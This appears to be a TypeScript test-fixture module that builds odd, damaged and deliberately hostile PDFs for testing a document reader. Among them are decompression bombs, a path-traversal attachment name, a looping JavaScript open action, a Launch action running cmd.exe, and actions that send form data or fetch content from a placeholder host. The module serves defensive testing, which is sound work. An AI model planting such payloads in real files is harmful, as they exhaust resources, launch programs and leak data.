import { readFileSync } from 'node:fs';
import { constants, deflateRawSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { imagePage } from './images.ts';
import { object, onePage, type RawObject, rawPdf, stream } from './raw-pdf.ts';
import { dynamicForm } from './xfa.ts';

/** A PDF that is odd in one way, and how its file must end in the ledger: a state, or the code of its exception. */
export interface OddPdf {
  readonly name: string;
  readonly bytes: Buffer;
  readonly expect: 'read' | 'partial' | 'container' | (string & {});
}

/** Password of the protected ones that can be opened with it. */
export const oddPassword = '\u5bc6\u7801 2025';

/** PDFs that are odd, damaged or made to harm, all made here. */
export async function oddPdfs(): Promise<OddPdf[]> {
  return [
    ...structures(),
    ...counts(),
    ...boxesAndContent(),
    ...images(),
    ...carried(),
    ...actions(),
    ...(await protections()),
  ];
}

const odd = (name: string, expect: OddPdf['expect'], bytes: Uint8Array): OddPdf => ({
  name: `${name}.pdf`,
  bytes: Buffer.from(bytes),
  expect,
});

function structures(): OddPdf[] {
  const plain = onePage();
  const catalogue = plain.indexOf('2 0 obj');
  return [
    odd('plain', 'read', plain),
    odd('start-of-table-wrong', 'read', onePage({ options: { startxref: 999_999 } })),
    odd('table-shifted', 'read', onePage({ options: { shift: 7 } })),
    odd('without-header', 'read', onePage({ options: { header: '\n\n' } })),
    odd('text-before-header', 'read', Buffer.concat([Buffer.alloc(900, 'A'), plain])),
    odd('much-before-header', 'read', Buffer.concat([Buffer.alloc(5_000, 'A'), plain])),
    odd('bytes-behind-end', 'read', Buffer.concat([plain, Buffer.alloc(3_000, 'Z')])),
    odd('cut-in-trailer', 'partial', plain.subarray(0, plain.length - 200)),
    odd('cut-in-content', 'failed', plain.subarray(0, plain.indexOf('stream') + 20)),
    odd('cut-before-pages', 'corrupt', plain.subarray(0, catalogue)),
    odd('header-alone', 'corrupt', Buffer.from('%PDF-1.7\n')),
    odd('header-and-noise', 'corrupt', Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(4_000)])),
    // Found by spoiling a sound file: pdf.js rejects a promise on the side that nobody waits for.
    odd(
      'lists-never-closed',
      'partial',
      readFileSync(new URL('fixtures/lists-never-closed.pdf', import.meta.url)),
    ),
    odd('wrong-stream-length', 'read', withObjects([stream(4, '', text('wrong length'), 5)])),
    odd(
      'length-of-itself',
      'read',
      withObjects([object(4, `<< /Length 4 0 R >>\nstream\n${text('length refers to itself')}\nendstream`)]),
    ),
    odd(
      'object-stream-damaged',
      'read',
      withObjects([stream(6, '/Type /ObjStm /N 3 /First 10 /Filter /FlateDecode', noise(200))]),
    ),
    odd(
      'object-stream-extends-itself',
      'read',
      withObjects([stream(6, '/Type /ObjStm /N 1 /First 4 /Extends 6 0 R', '9 0 << >>')]),
    ),
    odd('updated-twice', 'read', updated(updated(plain, 'second'), 'third')),
    odd('deep-arrays', 'partial', onePage({ catalog: `/Deep ${'['.repeat(20_000)}${']'.repeat(20_000)}` })),
  ];
}

function counts(): OddPdf[] {
  const two = [
    object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'),
    object(6, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'),
  ];
  const tree = (body: string, objects: readonly RawObject[] = []): Buffer =>
    onePage({ pages: `<< /Type /Pages ${body} >>`, objects });
  return [
    odd('kids-loop', 'partial', tree('/Kids [3 0 R 2 0 R] /Count 2')),
    odd('more-pages-stated', 'partial', tree('/Kids [3 0 R] /Count 100000')),
    odd('fewer-pages-stated', 'read', tree('/Kids [3 0 R 6 0 R] /Count 1', [two[1]!])),
    odd('negative-count', 'partial', tree('/Kids [3 0 R] /Count -1')),
    odd('kid-missing', 'partial', tree('/Kids [3 0 R 99 0 R] /Count 2')),
    odd(
      'no-kids',
      'corrupt',
      rawPdf([
        object(1, '<< /Type /Catalog /Pages 2 0 R >>'),
        object(2, '<< /Type /Pages /Kids [] /Count 0 >>'),
      ]),
    ),
    odd(
      'outline-loop',
      'read',
      onePage({
        catalog: '/Outlines 6 0 R',
        objects: [
          object(6, '<< /First 7 0 R /Last 7 0 R /Count 1 >>'),
          object(7, '<< /Title (a) /Parent 6 0 R /Next 7 0 R >>'),
        ],
      }),
    ),
    odd(
      'name-tree-loop',
      'read',
      onePage({
        catalog: '/Names << /EmbeddedFiles 6 0 R >>',
        objects: [object(6, '<< /Kids [6 0 R] >>')],
      }),
    ),
  ];
}

function boxesAndContent(): OddPdf[] {
  const form = '/Type /XObject /Subtype /Form /BBox [0 0 500 500]';
  return [
    odd('huge-page', 'read', onePage({ page: '/MediaBox [0 0 1000000 1000000]' })),
    odd('page-without-size', 'read', onePage({ page: '/MediaBox [0 0 0 0]' })),
    odd('page-upside-down', 'read', onePage({ page: '/MediaBox [595 842 0 0]' })),
    odd('text-outside-crop', 'read', onePage({ page: '/CropBox [0 0 595 400]' })),
    odd('empty-page', 'read', onePage({ content: '' })),
    odd(
      'form-in-itself',
      'read',
      onePage({
        content: `/X0 Do ${text('after it')}`,
        resources: '/XObject << /X0 6 0 R >>',
        objects: [stream(6, `${form} /Resources << /XObject << /X0 6 0 R >> >>`, '/X0 Do')],
      }),
    ),
    odd(
      'unbalanced-operators',
      'read',
      onePage({ content: `${'q '.repeat(2_000)}${text('deep')}${' Q'.repeat(99)}` }),
    ),
    odd(
      'content-expands-a-thousandfold',
      'memory',
      withObjects([stream(4, '/Filter /FlateDecode', spaces(1_500))]),
    ),
    odd('unknown-filter', 'read', withObjects([stream(4, '/Filter /NoSuchDecode', 'abc')])),
    odd(
      'invisible-text',
      'read',
      onePage({ content: `${text('seen words')} BT 3 Tr /F1 14 Tf 60 600 Td (unseen) Tj ET` }),
    ),
    odd(
      'layer-not-shown',
      'read',
      onePage({
        catalog: '/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>',
        content: `${text('seen words')} /OC /L0 BDC BT /F1 14 Tf 60 600 Td (Xinjiang) Tj ET EMC`,
        resources: '/Properties << /L0 6 0 R >>',
        objects: [object(6, '<< /Type /OCG /Name (not for you) >>')],
      }),
    ),
  ];
}

function images(): OddPdf[] {
  const grey = '/BitsPerComponent 1 /ColorSpace /DeviceGray';
  const fixture = readFileSync(new URL('fixtures/invoice.jp2', import.meta.url));
  return [
    odd(
      'fax-of-huge-size',
      'failed',
      imagePage(
        `/Width 100000 /Height 100000 ${grey} /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 100000 /Rows 100000 >>`,
        Buffer.alloc(1_000, 0x11),
      ),
    ),
    odd(
      'pixels-bomb',
      'failed',
      imagePage(
        '/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
        spaces(100),
      ),
    ),
    odd(
      'jbig2-noise',
      'failed',
      imagePage(`/Width 1000 /Height 1000 ${grey} /Filter /JBIG2Decode`, Buffer.alloc(1_000, 0x55)),
    ),
    odd(
      'jpx-noise',
      'failed',
      imagePage('/Width 1000 /Height 1000 /Filter /JPXDecode', Buffer.alloc(1_000, 0x55)),
    ),
    odd('jpx', 'read', imagePage('/Width 800 /Height 400 /Filter /JPXDecode', fixture)),
    odd(
      'jpx-cut',
      'failed',
      imagePage('/Width 800 /Height 400 /Filter /JPXDecode', fixture.subarray(0, 120)),
    ),
  ];
}

function carried(): OddPdf[] {
  const attached = (name: string, data: Buffer | string, filter = ''): Parameters<typeof onePage>[0] => ({
    catalog: `/Names << /EmbeddedFiles << /Names [(${name}) 6 0 R] >> >>`,
    objects: [
      object(6, `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`),
      stream(7, `/Type /EmbeddedFile ${filter} /Params << /ModDate (D:20250314091500+08'00') >>`, data),
    ],
  });
  const annotation = (body: string, extra: readonly RawObject[] = []): Buffer =>
    onePage({ page: '/Annots [6 0 R]', objects: [object(6, `<< /Type /Annot ${body} >>`), ...extra] });
  return [
    odd('attachment', 'read', onePage(attached('note.txt', 'weights as agreed'))),
    odd('attachment-leads-outside', 'read', onePage(attached('../../../../tmp/evil.txt', 'stay inside'))),
    odd('attachment-expands', 'read', onePage(attached('bomb.bin', spaces(1_500), '/Filter /FlateDecode'))),
    odd('attachment-damaged', 'read', onePage(attached('broken.bin', noise(300), '/Filter /FlateDecode'))),
    odd(
      'portfolio',
      'read',
      onePage({
        ...attached('inside.txt', 'a file of the portfolio'),
        catalog: '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(inside.txt) 6 0 R] >> >>',
      }),
    ),
    odd(
      'attached-to-page',
      'read',
      annotation('/Subtype /FileAttachment /Rect [10 10 30 30] /FS << /F (pin.txt) /EF << /F 7 0 R >> >>', [
        stream(7, '/Type /EmbeddedFile', 'pinned to the page'),
      ]),
    ),
    odd(
      'comment',
      'read',
      annotation('/Subtype /Text /Rect [10 10 30 30] /T (Li) /Contents (origin was changed)'),
    ),
    odd(
      'appearance-of-itself',
      'read',
      annotation('/Subtype /Stamp /Rect [10 10 300 300] /AP << /N 7 0 R >>', [
        stream(
          7,
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 7 0 R >> >>',
          '/A Do',
        ),
      ]),
    ),
    odd('form-without-program', 'read', dynamicForm()),
    odd('medium', 'read', annotation('/Subtype /RichMedia /Rect [10 10 300 300] /RichMediaContent << >>')),
  ];
}

function actions(): OddPdf[] {
  const opened = (action: string): Buffer =>
    onePage({ catalog: `/OpenAction << /Type /Action ${action} >>` });
  return [
    odd('script', 'read', opened('/S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){})')),
    odd('starts-a-program', 'read', opened('/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>')),
    odd('opens-a-share', 'read', opened('/S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit]')),
    odd('sends-the-form', 'read', opened('/S /SubmitForm /F (http://192.0.2.1/collect)')),
    odd('opens-an-address', 'read', opened('/S /URI /URI (http://192.0.2.1/track?id=1)')),
    odd(
      'content-elsewhere',
      'read',
      withObjects([stream(4, '/F (http://192.0.2.1/content) /FFilter /FlateDecode', '')]),
    ),
  ];
}

async function protections(): Promise<OddPdf[]> {
  const locked = async (options: { userPassword?: string; ownerPassword: string }): Promise<Uint8Array> => {
    const document = await PDFDocument.create();
    document.addPage([595, 842]).drawText('Protected invoice 4711', { x: 60, y: 700, size: 14 });
    document.encrypt({ ...options, permissions: { printing: false, copying: false, modifying: false } });
    return document.save();
  };
  const handler = (body: string): Buffer =>
    onePage({
      objects: [object(6, `<< ${body} >>`)],
      options: { trailer: '/Encrypt 6 0 R /ID [<00> <00>]' },
    });
  return [
    odd('password', 'encrypted', await locked({ userPassword: oddPassword, ownerPassword: 'owner' })),
    odd('restricted', 'read', await locked({ ownerPassword: 'owner' })),
    odd('for-a-certificate', 'encrypted', handler('/Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4')),
    odd('unknown-handler', 'encrypted', handler('/Filter /FOPN_fLock /V 1')),
    odd('unknown-encryption', 'encrypted', handler('/Filter /Standard /V 9 /R 9 /O (x) /U (y) /P -1')),
  ];
}

function text(words: string): string {
  return `BT /F1 14 Tf 60 700 Td (${words}) Tj ET`;
}

/** The one-page PDF with some of its objects replaced. */
function withObjects(replaced: readonly RawObject[]): Buffer {
  const own = new Set(replaced.map(({ number }) => number));
  const usual = [
    object(1, '<< /Type /Catalog /Pages 2 0 R >>'),
    object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    object(
      3,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    ),
    stream(4, '', text('Commercial invoice 4711')),
    object(5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
  ];
  return rawPdf([...usual.filter(({ number }) => !own.has(number)), ...replaced]);
}

/** The file with its page's text replaced by an incremental update. */
function updated(bytes: Buffer, words: string): Buffer {
  const content = text(words);
  const at = bytes.length;
  const body = `4 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`;
  const before = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(bytes.toString('latin1'))![1]);
  const table = `xref\n4 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${before} >>\nstartxref\n${at + body.length}\n%%EOF\n`;
  return Buffer.concat([bytes, Buffer.from(body + table, 'latin1')]);
}

/** Bytes without meaning, the same each time. */
function noise(length: number): Buffer {
  let state = 12_345;
  return Buffer.from(
    Array.from({ length }, () => {
      state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
      return (state >>> 16) & 255;
    }),
  );
}

const packed = new Map<number, Buffer>();
/** So many million spaces, deflated to a thousandth: one million is packed, and what came of it is set in a row. */
function spaces(millions: number): Buffer {
  let made = packed.get(millions);
  if (made === undefined) {
    const million = Buffer.alloc(1_000_000, 0x20);
    // Each ends at a whole byte and looks back at nothing.
    const part = deflateRawSync(million, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
    made = Buffer.concat([
      Buffer.from([0x78, 0xda]),
      ...Array.from({ length: millions }, () => part),
      deflateRawSync(''),
      checksumOfSpaces(millions * 1_000_000),
    ]);
    packed.set(millions, made);
  }
  return made;
}

/** Adler-32 of so many spaces (RFC 1950). */
function checksumOfSpaces(count: number): Buffer {
  const [modulus, space, all] = [65_521n, 0x20n, BigInt(count)];
  const low = (1n + all * space) % modulus;
  const high = (all + (space * all * (all + 1n)) / 2n) % modulus;
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(Number(high * 65_536n + low));
  return checksum;
}
